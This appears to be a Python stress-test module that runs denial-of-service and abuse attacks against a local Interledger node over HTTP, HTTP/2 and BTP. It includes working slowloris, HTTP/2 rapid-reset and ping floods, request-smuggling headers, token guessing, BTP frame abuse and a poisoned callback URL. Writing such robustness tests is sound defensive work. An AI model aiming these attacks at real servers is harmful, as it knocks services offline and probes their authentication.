"""The attacks of `hostile.py`: each runs for ever, as fast as the machine lets it.

Strangers come first; then a peer with an account of its own (`Target.token`), over BTP and over HTTP.
"""

from __future__ import annotations

import asyncio
import itertools
import os
import struct
import time
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass

from btp_load import auth
from btp_load import frame as message

from interledger.ilp.address import Address
from interledger.ilp.packet import Fulfill, Prepare
from interledger.ilp.peer import PEER_CONDITION
from interledger.link.btp.messages import encode_ilp

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000 04 00 00000000")

HOSTILE_ACCOUNT = """
[accounts.hostile]
asset = "USD/9"
relation = "peer"
ilp_address = "test.hostile"
btp_incoming_token = "{token}-btp"
http_form = "async"
http_url = "http://127.0.0.1:9/ilp"
http_outgoing_token = "nobody"
http_callback_url = "http://127.0.0.1:9/ilp"
http_incoming_token = "{token}"
"""
"""What the node knows of the hostile peer, which cannot be reached itself."""


@dataclass
class Target:
    """Where the node is. `token`: the hostile peer's. `addresses`: where its next connection comes from."""

    port: int
    token: str
    addresses: Iterator[tuple[str, int] | None]


def addresses_of(sources: int) -> Iterator[tuple[str, int] | None]:
    """127.0.0.2 and on; 0: our own."""
    if not sources:
        return itertools.repeat(None)
    return itertools.cycle([(f"127.0.{number // 250}.{number % 250 + 2}", 0) for number in range(sources)])


# ---------------------------------------------------------------------- strangers


async def idle(target: Target) -> None:
    """1,000 sockets that say nothing, opened again whenever they are cut."""
    await many(1_000, target, lambda reader, writer: reader.read())


async def slowloris(target: Target) -> None:
    """200 heads that grow by an octet every 10 ms."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"POST /ilp HTTP/1.1\r\nHost: x\r\nX-A: ")
        for _ in range(2_000):
            writer.write(b"a")
            await writer.drain()
            await asyncio.sleep(0.01)

    await many(200, target, talk)


async def slow_readers(target: Target) -> None:
    """50 sockets that ask for the largest page again and again and read nothing."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(b"GET /api/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 100)
        await asyncio.sleep(60)

    await many(50, target, talk)


async def oversize(target: Target) -> None:
    """Bodies and heads beyond their limits, as fast as they are refused."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 60_000)
        await reader.read()

    await many(8, target, talk)


async def garbage(target: Target) -> None:
    """Requests that could be read in two ways."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        both = b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n"
        writer.write(b"POST /ilp HTTP/1.1\r\nHost: x\r\n%b\r\n0\r\n\r\n" % both)
        await reader.read()

    await many(8, target, talk)


async def guesses(target: Target) -> None:
    """Tokens, one after another, on 32 connections."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        token = os.urandom(16).hex().encode()
        writer.write(b"POST /ilp HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %b\r\nContent-Length: 1\r\n\r\nx" % token)
        await reader.read(65_536)

    await many(32, target, talk)


async def rapid_reset(target: Target) -> None:
    """HTTP/2: streams opened and reset in one breath."""
    head = b"\x82\x86\x84\x41\x01x"  # GET / of http://x, in HPACK
    octets = PREFACE + b"".join(
        frame(1, 5, stream, head) + frame(3, 0, stream, struct.pack(">I", 8)) for stream in range(1, 2_000, 2)
    )
    await flood(target, octets)


async def pings(target: Target) -> None:
    """HTTP/2: pings and settings without end."""
    await flood(target, PREFACE + (frame(6, 0, 0, bytes(8)) + frame(4, 0, 0)) * 2_000)


async def empty_frames(target: Target) -> None:
    """HTTP/2: a body of frames that hold nothing."""
    head = b"\x83\x86\x44\x04/ilp\x41\x01x"  # POST /ilp
    await flood(target, PREFACE + frame(1, 4, 1, head) + frame(0, 0, 1) * 4_000)


# ---------------------------------------------------------------------- a peer over BTP


async def btp_guesses(target: Target) -> None:
    """Tokens, one after another, each on a socket of its own, 32 at a time."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await greet(reader, writer, os.urandom(16).hex())

    await many(32, target, talk)


async def btp_pings(target: Target) -> None:
    """Pings without end."""
    await as_peer(target, b"\x89\x80\x00\x00\x00\x00" * 2_000)


async def btp_fragments(target: Target) -> None:
    """A message in frames of one octet."""
    await as_peer(target, b"\x02\x81\x00\x00\x00\x00a" + b"\x00\x81\x00\x00\x00\x00a" * 2_000)


async def btp_compressed(target: Target) -> None:
    """Frames said to be compressed, which nobody agreed on."""
    await as_peer(target, b"\xc2\x84\x00\x00\x00\x00\x4b\x4c\x04\x00" * 100)


async def btp_oversize(target: Target) -> None:
    """A message too long, half of it sent."""
    await as_peer(target, b"\x82\xff" + (1 << 32).to_bytes(8, "big") + bytes(60_000))


async def btp_unread(target: Target) -> None:
    """Packets for nowhere, and not one answer read."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await greet(reader, writer, f"{target.token}-btp")
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        octets = b"".join(message(encode_ilp(6, i, prepare("test.nowhere", 1_000))) for i in range(100))
        while True:
            writer.write(octets)
            await writer.drain()

    await many(4, target, talk)


async def btp_others_ids(target: Target) -> None:
    """Answers to packets that went to somebody else, with numbers that may be theirs."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await greet(reader, writer, f"{target.token}-btp")
        fulfill = Fulfill(bytes(32)).encode()
        while True:
            numbers = [int.from_bytes(os.urandom(4), "big") for _ in range(100)]
            writer.write(b"".join(message(encode_ilp(1, number, fulfill)) for number in numbers))
            await writer.drain()

    await many(4, target, talk)


# ---------------------------------------------------------------------- a peer over HTTP


async def poisoned_callbacks(target: Target) -> None:
    """Packets whose answer is to go to another address than the one that was agreed on."""
    await ask(target, prepare("test.receiver.x"), "Callback-Url: http://127.0.0.1:1/admin\r\n")


async def others_ids(target: Target) -> None:
    """Answers to packets that went to somebody else."""
    await ask(target, Fulfill(bytes(32)).encode(), "")


async def ask(target: Target, body: bytes, field: str) -> None:
    """Requests with ids, one after another, on 8 connections."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            writer.write(
                f"POST /ilp HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {target.token}\r\n{field}"
                f"Request-Id: {os.urandom(8).hex()}\r\nContent-Length: {len(body)}\r\n\r\n".encode()
                + body
            )
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(int(head.lower().partition(b"content-length: ")[2].partition(b"\r")[0]))

    await many(8, target, talk)


ATTACKS = [
    idle, slowloris, slow_readers, oversize, garbage, guesses, rapid_reset, pings, empty_frames,
    btp_guesses, btp_pings, btp_fragments, btp_compressed, btp_oversize, btp_unread, btp_others_ids,
    poisoned_callbacks, others_ids,
]  # fmt: skip


# ---------------------------------------------------------------------- connections


def prepare(destination: str, octets: int = 0) -> bytes:
    expires_at = int(time.time() * 1000) + 20_000
    return Prepare(1, expires_at, PEER_CONDITION, Address(destination), bytes(octets)).encode()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


async def flood(target: Target, octets: bytes) -> None:
    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(octets)
        while await reader.read(65_536):
            pass

    await many(4, target, talk)


async def many(
    count: int, target: Target, talk: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[object]]
) -> None:
    """So many hostile connections at a time, for ever."""

    async def one() -> None:
        while True:
            with suppress(OSError):
                source = next(target.addresses)
                reader, writer = await asyncio.open_connection("127.0.0.1", target.port, local_addr=source)
                with suppress(OSError, asyncio.IncompleteReadError):
                    await talk(reader, writer)
                writer.transport.abort()
            await asyncio.sleep(0.001)

    await asyncio.gather(*(one() for _ in range(count)))


async def greet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, token: str) -> None:
    """WebSocket, then BTP's first message."""
    writer.write(
        b"GET /accounts/hostile/ilp/btp HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n"
    )
    await reader.readuntil(b"\r\n\r\n")
    writer.write(message(auth(1, token)))
    if (await reader.read(4_096))[2:3] != b"\x01":
        raise ConnectionError("not let in")


async def as_peer(target: Target, octets: bytes) -> None:
    """Send it on a connection that was let in, until the end; four at a time."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await greet(reader, writer, f"{target.token}-btp")
        writer.write(octets)
        while await reader.read(65_536):
            pass

    await many(4, target, talk)
